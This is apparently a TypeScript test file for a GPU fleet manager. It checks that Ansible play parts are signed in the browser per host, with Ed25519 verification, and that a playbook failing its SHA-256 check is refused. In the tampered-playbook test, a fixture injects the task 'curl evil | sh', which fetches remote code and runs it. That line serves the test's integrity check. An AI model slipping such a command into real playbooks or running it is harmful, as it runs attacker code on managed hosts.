import { createHash } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { canonicalJson, localPlayScript, verifyEd25519, verifySignedCommand, type PlayPlanView, type SignedCommandContext } from '@gpufleet/protocol';
import { buildPayload } from '../../../../cli/src/exec/build-payload.js';
import { expectedScript, matchAgentCommands } from '../../../../server/src/plays/agent-hosts-plan.js';
import type { TemplateRecord } from '../../../../server/src/store/store.js';
import { testSigner } from '../../testing/fake-run-network.js';
import type { RevocableSigner } from './browser-signer.js';
import { agentPartScript, checkPlaybookDigest, draftAgentParts, signAgentParts } from './play-parts.js';

/*
 * Agent hosts' parts of a play, signed in the browser: the script is the one the CLI and the
 * server render (localPlayScript), each part targets its own host, and the signatures are the
 * ones hosts verify; a playbook that does not hash to the recorded SHA-256 is never signed.
 */

const PLAYBOOK = '- hosts: all\n  gather_facts: false\n  tasks:\n    - name: ping\n      ansible.builtin.ping:\n';
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

function planFixture(over: Partial<PlayPlanView> = {}): PlayPlanView {
  return {
    template: { name: 'connectivity_check', version: 3, sha256: sha256(PLAYBOOK), playbook: PLAYBOOK, become: true, vars: { retries: 2 } },
    ssh: [{ nodeId: 'did:key:z6MkSsh', hostname: 'ssh-01' }],
    agents: [
      { nodeId: 'did:key:z6MkA', hostname: 'gpu-07', target: 'hostname=gpu-07', groups: ['gpu_nodes'], vars: { zone: 'b' }, notes: [] },
      {
        nodeId: 'did:key:z6MkB',
        hostname: 'gpu-08',
        target: 'hostname=gpu-08',
        groups: [],
        vars: { zone: "it's c" },
        notes: ["gpu-08: variable ansible_host (from node) is ignored: an agent host's part runs on the host itself"],
      },
    ],
    extraVars: { install_cuda: false },
    check: true,
    timeoutMs: 1_800_000,
    ...over,
  };
}

let held: RevocableSigner;
beforeAll(async () => {
  held = await testSigner();
});

function hostContext(hostname: string, over: Partial<SignedCommandContext> = {}): SignedCommandContext {
  return { roots: [held.signer.did], now: Date.now(), isRevoked: () => false, hostLabels: { hostname }, seenNonce: () => false, ...over };
}

describe("agent hosts' parts of a play", () => {
  it('renders, for each agent host, the script localPlayScript renders from the plan', () => {
    const plan = planFixture();
    const drafts = draftAgentParts(plan, held.signer);
    expect(drafts.map((d) => d.host.hostname)).toEqual(['gpu-07', 'gpu-08']);
    for (const [i, host] of plan.agents.entries()) {
      const script = localPlayScript({
        template: { name: 'connectivity_check', version: 3, sha256: sha256(PLAYBOOK), playbook: PLAYBOOK, become: true },
        hostname: host.hostname,
        groups: host.groups,
        defaults: { retries: 2 },
        vars: host.vars,
        extraVars: { install_cuda: false },
        check: true,
      });
      expect(agentPartScript(plan, host)).toBe(script);
      expect(drafts[i]!.payload.command).toEqual({ kind: 'shell', script });
    }
    expect(drafts[0]!.payload.command).toMatchObject({ script: expect.stringContaining('--check --become') });
  });

  it("targets each part at its own host, as exec/run with the plan's timeout, invoked by the unlocked key", () => {
    const drafts = draftAgentParts(planFixture(), held.signer);
    expect(drafts.map((d) => d.payload)).toEqual([
      expect.objectContaining({ target: 'hostname=gpu-07', ability: 'exec/run', timeoutMs: 1_800_000, invoker: held.signer.did, capability: null }),
      expect.objectContaining({ target: 'hostname=gpu-08', ability: 'exec/run', timeoutMs: 1_800_000, invoker: held.signer.did, capability: null }),
    ]);
    expect(drafts[0]!.payload).toMatchObject({ env: {}, cwd: null, runAs: null });
    expect(drafts[0]!.payload.runId).not.toBe(drafts[1]!.payload.runId);
    expect(drafts[0]!.payload.nonce).not.toBe(drafts[1]!.payload.nonce);
  });

  it('makes the payload the CLI makes for the same part (only the run id and nonce differ)', () => {
    const plan = planFixture();
    const [ours] = draftAgentParts(plan, held.signer);
    const cli = buildPayload({
      spec: { kind: 'shell', script: agentPartScript(plan, plan.agents[0]!) },
      selector: 'hostname=gpu-07',
      timeoutMs: plan.timeoutMs,
      env: {},
      cwd: null,
      runAs: null,
      invoker: held.signer.did,
      capability: null,
      now: ours!.payload.issuedAt,
    });
    const { runId: _r1, nonce: _n1, ...a } = ours!.payload;
    const { runId: _r2, nonce: _n2, ...b } = cli;
    expect(a).toEqual(b);
  });

  it('signs exactly the drafts: each host accepts its own part and refuses the other', async () => {
    const plan = planFixture();
    const drafts = draftAgentParts(plan, held.signer);
    const signed = await signAgentParts(plan, drafts, held.signer);
    expect(signed.map((s) => s.payload)).toEqual(drafts.map((d) => d.payload));
    for (const s of signed) expect(verifyEd25519(held.signer.did, canonicalJson(s.payload), s.sig)).toBe(true);
    expect(verifySignedCommand(signed[0]!, hostContext('gpu-07'))).toEqual({ ok: true });
    expect(verifySignedCommand(signed[1]!, hostContext('gpu-08'))).toEqual({ ok: true });
    expect(verifySignedCommand(signed[0]!, hostContext('gpu-08'))).toMatchObject({ ok: false });
    // Not a fleet root and no capability: hosts refuse it.
    expect(verifySignedCommand(signed[0]!, hostContext('gpu-07', { roots: ['did:key:z6MkSomeoneElse'] }))).toMatchObject({ ok: false });
  });

  it("signs parts the server matches to the play's agent hosts", async () => {
    const plan = planFixture();
    const signed = await signAgentParts(plan, draftAgentParts(plan, held.signer), held.signer);
    const template = { ...plan.template } as unknown as TemplateRecord;
    const matched = matchAgentCommands(signed, plan.agents, (h) => expectedScript(template, h, plan.extraVars, plan.check));
    expect([...matched.keys()]).toEqual(['did:key:z6MkA', 'did:key:z6MkB']);
  });

  it('refuses a playbook whose SHA-256 differs from the recorded one, and signs nothing', async () => {
    const plan = planFixture();
    const swapped = planFixture({ template: { ...plan.template, playbook: `${PLAYBOOK}    - name: extra\n      ansible.builtin.shell: curl evil | sh\n` } });
    const message = `the server's playbook for connectivity_check@3 hashes to ${sha256(swapped.template.playbook).slice(0, 12)}…, not ${plan.template.sha256.slice(0, 12)}… as recorded: nothing signed`;
    await expect(checkPlaybookDigest(swapped.template)).rejects.toThrow(message);
    let signatures = 0;
    const counting = { signDraft: async (p: Parameters<typeof held.signer.signDraft>[0]) => (signatures++, held.signer.signDraft(p)) };
    await expect(signAgentParts(swapped, draftAgentParts(swapped, held.signer), counting)).rejects.toThrow(message);
    expect(signatures).toBe(0);
    await expect(checkPlaybookDigest(plan.template)).resolves.toBeUndefined();
  });

  it("refuses to sign drafts that are not the plan's", async () => {
    const plan = planFixture();
    const drafts = draftAgentParts(plan, held.signer);
    const changed = planFixture({ extraVars: { install_cuda: true } });
    await expect(signAgentParts(changed, drafts, held.signer)).rejects.toThrow("the parts shown are not this plan's");
    await expect(signAgentParts(plan, drafts.slice(1), held.signer)).rejects.toThrow("the parts shown are not this plan's");
  });

  it('a part that cannot be signed says why', () => {
    expect(() => draftAgentParts(planFixture({ timeoutMs: 8 * 86_400_000 }), held.signer)).toThrow(/from 1s to 7d/);
  });
});
